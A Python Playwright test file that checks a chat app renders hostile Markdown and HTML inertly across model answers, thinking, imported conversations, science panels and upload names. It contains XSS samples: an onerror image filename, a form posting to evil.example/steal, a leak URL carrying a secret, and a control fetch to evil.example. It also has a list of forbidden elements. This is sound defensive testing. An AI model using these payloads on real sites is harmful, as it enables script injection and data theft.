"""Hostile Markdown is shown inert in the real browser (Debian's Chromium driven by Playwright, headless).

The backend answers with the hostile corpus and 40 fuzzed documents (tests/app/ui/hostile_markdown.py) in its
thinking and its answer; a conversation with the same text in the user's turn, the thinking, the answer and a tool
step is imported; and the corpus is typed as a user message. After each, the rendered DOM of every message must hold
no form, input, button, select, textarea, frame, object, embed, script, style, link, meta, base, image, SVG or media
element (KaTeX's own MathML/SVG for ``$$…$$`` excepted), no event-handler attribute, no ``javascript:``/``data:``
link (the model's links only to http(s)/mailto), nothing laid over the page outside its bubble;
``window.__pwned`` must stay unset; and the page must not have tried to reach any host but 127.0.0.1 (Chromium runs
with ``--proxy-server=http://127.0.0.1:9``, and every request the page makes is recorded). The same payloads are
typed into the science panels and used as an upload name (their error messages echo the input).
"""

from __future__ import annotations

import json
from urllib.parse import urlsplit

import pytest
from browser_helpers import chromium
from hostile_markdown import CORPUS, fuzz_documents
from reliability_helpers import Recorder, launch_app

from app.backends.base import BackendInfo, ChatBackend, Delta
from app.config import Limits


pytestmark = [pytest.mark.browser, pytest.mark.slow]

END = "END-OF-HOSTILE-ANSWER"
DIALOGS: list[str] = []  # alert()/confirm() messages the page tried to show
REQUESTS: list[str] = []  # every URL the page requested
FUZZED = fuzz_documents(40)
HOSTILE_TEXT = "Here you go.\n\n" + "\n\n".join(CORPUS + FUZZED) + f"\n\n{END}"

# What must not be in any message once it is shown (evaluated in the page).
INSPECT_JS = r"""() => {
  const messages = Array.from(document.querySelectorAll('#chat .md'));
  const inside = messages.flatMap(m => Array.from(m.querySelectorAll('*')));
  // KaTeX (the Chatbot's LaTeX renderer, untrusted mode) writes MathML and SVG glyphs for $$…$$: allowed there only.
  const forbidden = inside.filter(el => !(el.matches('math, math *, svg, svg *') && el.closest('.katex')) && el.matches(
      'form, input, button, select, textarea, iframe, frame, object, embed, script, style, link, meta, base, img,' +
      'image, svg, math, video, audio, source, picture, portal, details, dialog'));
  const handlers = inside.filter(el => Array.from(el.attributes).some(a => a.name.toLowerCase().startsWith('on')));
  // model text (rendered by the app) may only link to http(s)/mailto; user text may link anywhere but to script
  const urls = inside.flatMap(el => ['href', 'src', 'data', 'xlink:href', 'action', 'formaction', 'background']
      .map(name => [el, el.getAttribute(name)]).filter(([, v]) => v !== null));
  const badUrls = urls.filter(([el, v]) => el.closest('.model-text') ? !/^(https?:|mailto:)/i.test(v.trim())
      : /^\s*(javascript|vbscript|data):/i.test(v.replace(/[\u0000-\u0020]/g, ''))).map(([, v]) => v);
  return {
    pwned: window.__pwned === undefined ? null : String(window.__pwned),
    messages: messages.length,
    forbidden: forbidden.map(el => el.outerHTML.slice(0, 120)),
    handlers: handlers.map(el => el.outerHTML.slice(0, 120)),
    badUrls: badUrls.map(v => v.slice(0, 120)),
    scripts: Array.from(document.querySelectorAll('script')).filter(s => s.textContent.includes('__pwned')).length,
    // what lies on top at points outside the chat (corners, the input box): never a message's content
    overlays: [[5, 5], [innerWidth - 5, innerHeight - 5], [innerWidth / 2, 5]]
        .map(([x, y]) => document.elementFromPoint(x, y)).filter(el => el && el.closest('#chat .md'))
        .map(el => el.outerHTML.slice(0, 120)),
    text: document.querySelector('#chat').innerText,
  };
}"""


class HostileBackend(ChatBackend):
    """A model whose thinking and answer are the hostile corpus and fuzzed hostile Markdown."""

    info = BackendInfo(kind="hostile", model_id="hostile-model")

    def stream_chat(self, messages, params, *, tools=None, cancel=None):
        if params.enable_thinking:
            yield Delta("reasoning", "Thinking about " + "\n\n".join(CORPUS[:8]))
        for piece in HOSTILE_TEXT.split("\n\n"):  # streamed in pieces, so partial tags reach the page too
            yield Delta("content", piece + "\n\n")


def _outside_loopback(urls: list[str]) -> list[str]:
    return [url for url in urls if urlsplit(url).scheme in ("http", "https", "ws", "wss")
            and urlsplit(url).hostname not in ("127.0.0.1", "localhost")]  # fmt: skip


@pytest.fixture(scope="module")
def page():
    # Every request outside 127.0.0.1 goes to browser_helpers' dead proxy: nothing can leave; what the page tried
    # is still recorded below.
    with launch_app(Recorder(HostileBackend()), Limits()) as app, chromium() as browser:
        page = browser.new_page(viewport={"width": 1300, "height": 1000})
        page.on("dialog", lambda dialog: (DIALOGS.append(dialog.message), dialog.dismiss()))
        page.on("request", lambda request: REQUESTS.append(request.url))
        page.goto(app.url)
        page.wait_for_selector("#chat-input textarea")
        yield page


def _expand_everything(page) -> None:
    """Open every collapsed thinking / tool block (their content is only rendered when open)."""
    for title in page.locator("#chat .thought-group .title").all():
        if title.is_visible():
            title.click(timeout=5_000)
    page.wait_for_timeout(500)


def _assert_inert(page) -> dict:
    found = page.evaluate(INSPECT_JS)
    assert found["pwned"] is None, f"injected script ran: window.__pwned = {found['pwned']!r}"
    assert found["forbidden"] == [], found["forbidden"]
    assert found["handlers"] == [], found["handlers"]
    assert found["badUrls"] == [], found["badUrls"]
    assert found["scripts"] == 0
    assert found["overlays"] == [], found["overlays"]
    assert DIALOGS == []
    assert _outside_loopback(REQUESTS) == [], _outside_loopback(REQUESTS)
    return found


def _fresh(page) -> None:
    """A new conversation (the hostile answers are long: the next question would exceed the prompt budget)."""
    page.reload()
    page.wait_for_selector("#chat-input textarea")


def _send(page, text: str) -> None:
    _fresh(page)
    answers = page.locator("#chat").get_by_text(END, exact=False)
    before = answers.count()
    box = page.locator("#chat-input textarea")
    box.fill(text)
    box.press("Enter")
    answers.nth(before).wait_for(timeout=90_000)


def test_hostile_answer_and_thinking_are_shown_inert(page):
    _send(page, "Show me something dangerous.")
    _expand_everything(page)
    found = _assert_inert(page)
    assert "window.__pwned" in found["text"], "the payloads should be visible as text, not silently dropped"
    assert "http://evil.example/leak.png?secret=42" in found["text"], "an image's URL is shown, not fetched"
    print(f"\n{found['messages']} messages checked, {len(REQUESTS)} requests, none outside 127.0.0.1")


def test_hostile_user_text_is_shown_inert(page):
    """User text is rendered as typed through Gradio's sanitiser; dangerous tags are shown as text (allow_tags)."""
    _send(page, "My own payloads:\n\n" + "\n\n".join(CORPUS))
    _expand_everything(page)
    found = _assert_inert(page)
    assert "<form action=http://evil.example/steal>" in found["text"]


def test_a_hostile_imported_conversation_is_shown_inert(page, tmp_path):
    hostile = "\n\n".join(CORPUS + FUZZED[:10])
    step = {"name": "check_smiles", "ok": True, "parameters": {"smiles": CORPUS[0]}, "result": {"input": CORPUS[3]},
            "error": None, "duration_s": 0.1, "index": 0}  # fmt: skip
    document = {
        "format": "intern-s1-studio.conversation",
        "version": 2,
        "turns": [
            {
                "user": {"text": hostile, "files": []},
                "answer": {"content": hostile + f"\n\n{END}", "reasoning": hostile, "steps": [step],
                           "end": {"state": "answered"}},
            }
        ],
    }  # fmt: skip
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps(document), encoding="utf-8")
    _fresh(page)
    page.get_by_text("Export / import the conversation").click()
    page.locator("input[type=file][accept*='.json']").set_input_files(str(path))
    page.locator("#chat").get_by_text("Thinking").last.wait_for(timeout=30_000)
    page.wait_for_timeout(1_000)
    _expand_everything(page)
    _assert_inert(page)


@pytest.mark.parametrize(
    "tab, panel, verdict",
    [("Molecule", "#smiles textarea", "Invalid SMILES"), ("Protein / DNA", "#sequence textarea", "Invalid sequence")],
)
def test_hostile_text_in_science_panels_stays_inert(page, tab, panel, verdict):
    page.get_by_role("tab", name=tab).click()
    for payload in CORPUS[3:6] + CORPUS[13:14]:
        page.locator(panel).fill(payload)
        page.get_by_text(verdict, exact=False).first.wait_for(timeout=20_000)
        page.wait_for_timeout(200)
        assert page.evaluate("() => window.__pwned === undefined ? null : String(window.__pwned)") is None
    assert DIALOGS == []
    assert _outside_loopback(REQUESTS) == []


def test_hostile_upload_name_in_error_toast_stays_inert(page, tmp_path):
    evil = tmp_path / "<img src=x onerror=\"window.__pwned='toast'\">.png"
    evil.write_bytes(b"not an image")
    page.locator("#chat-input input[type=file]").set_input_files(str(evil))
    box = page.locator("#chat-input textarea")
    box.fill("What is this?")
    box.press("Enter")
    page.get_by_text("not a readable image", exact=False).first.wait_for(timeout=30_000)
    page.wait_for_timeout(300)
    assert page.evaluate("() => window.__pwned === undefined ? null : String(window.__pwned)") is None
    assert page.locator("img[onerror]").count() == 0


def test_the_checks_above_do_catch_a_live_payload(page):
    """Control: the same inspection flags markup that does run and a request that leaves (added by hand, last)."""
    page.evaluate(
        """() => { const div = document.createElement('div');
                   div.innerHTML = '<img src=x onerror="window.__pwned = \\'control\\'"><form><input></form>';
                   document.querySelector('#chat .md').appendChild(div);
                   fetch('http://evil.example/control').catch(() => {}); }"""
    )
    page.wait_for_function("() => window.__pwned === 'control'", timeout=10_000)
    page.wait_for_timeout(500)
    found = page.evaluate(INSPECT_JS)
    assert found["pwned"] == "control" and found["handlers"] and len(found["forbidden"]) >= 2
    assert "http://evil.example/control" in _outside_loopback(REQUESTS)
